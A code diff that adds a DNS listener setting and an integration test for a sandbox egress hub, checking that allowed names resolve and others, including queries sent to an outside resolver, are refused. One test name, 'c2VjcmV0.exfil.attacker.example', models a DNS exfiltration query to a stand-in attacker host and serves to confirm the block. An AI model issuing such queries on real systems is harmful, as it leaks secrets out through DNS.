@@ -121,6 +121,8 @@ url = "https://mcp.hub.internal/mcp"
 [egress]
 transparent_listen = "0.0.0.0:15001"
 explicit_listen = "10.77.0.1:3128"
+dns_listen = "0.0.0.0:15353"
+gateway_addresses = ["10.77.0.1"]
 devbox_interfaces = ["vd0", "vd1"]
 # The test's "outside world" is a private network; the operator allows it explicitly.
 allowed_private_ranges = ["10.88.0.0/24"]
@@ -537,6 +539,46 @@ fn transparent_egress_in_network_namespaces() {
     let o = mcp("dbx2");
     assert!(
         !o.status.success() && text(&o).to_lowercase().contains("access denied"),
+        "{}",
+        text(&o)
+    );
+
+    // DNS (port 53 is redirected to the hub's responder): allowed names and the gateway are answered,
+    // everything else is refused and never forwarded.
+    let dig = |ns: &str, name: &str| -> String {
+        let o = lab.exec(ns, &["dig", "+tries=1", "+time=3", "@10.77.0.1", name, "A"]);
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let out = dig("dbx", "allowed.test");
+    assert!(
+        out.contains("status: NOERROR") && out.contains("10.88.0.2"),
+        "{out}"
+    );
+    let out = dig("dbx", "mcp.hub.internal");
+    assert!(
+        out.contains("status: NOERROR") && out.contains("10.77.0.1"),
+        "{out}"
+    );
+    for name in [
+        "denied.test",
+        "c2VjcmV0.exfil.attacker.example",
+        "private.test",
+    ] {
+        let out = dig("dbx", name);
+        assert!(out.contains("status: REFUSED"), "{name}: {out}");
+    }
+    let out = dig("dbx2", "mcp.hub.internal");
+    assert!(
+        out.contains("status: REFUSED"),
+        "locked policy, gateway name: {out}"
+    );
+    // Any other resolver is unreachable: the query to it is redirected to the hub too.
+    let o = lab.exec(
+        "dbx",
+        &["dig", "+tries=1", "+time=3", "@8.8.8.8", "denied.test", "A"],
+    );
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("status: REFUSED"),
         "{}",
         text(&o)
     );
